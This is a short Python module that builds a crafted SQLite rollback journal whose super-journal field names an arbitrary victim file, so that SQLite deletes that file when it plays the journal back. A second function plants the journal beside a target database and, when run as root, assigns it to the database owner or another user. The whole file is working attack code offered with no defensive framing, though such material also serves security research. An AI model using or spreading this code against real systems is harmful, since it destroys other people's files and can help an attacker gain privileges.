# SPDX-License-Identifier: Apache-2.0
"""Rollback journals of SQLite that delete another file when they are played back ("Rollback Journal Format" of its documentation)."""

import os
import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")
PENDING_BYTE = 0x40000000


def with_super_journal(database, victim):
    """A hot journal of a database that changes no page and names a file as its super-journal, which SQLite deletes afterwards."""
    with open(database, "rb") as file:
        head = file.read(32)
    page_size = struct.unpack(">H", head[16:18])[0]
    size = os.path.getsize(database)
    name = os.fsencode(victim)
    journal = MAGIC + struct.pack(">IIIII", 0, 0, size // page_size, 512, page_size)
    journal += b"\0" * (512 - len(journal))
    journal += struct.pack(">I", PENDING_BYTE // page_size + 1)
    return journal + name + struct.pack(">II", len(name), sum(name)) + MAGIC


def plant(database, victim, owner=None):
    """Writes such a journal beside the database, as a file of its owner or of another user."""
    path = database + "-journal"
    facts = os.stat(database)
    with open(path, "wb") as file:
        file.write(with_super_journal(database, victim))
    if os.geteuid() == 0:
        os.chown(path, *((facts.st_uid, facts.st_gid) if owner is None else (owner, owner)))
    return path
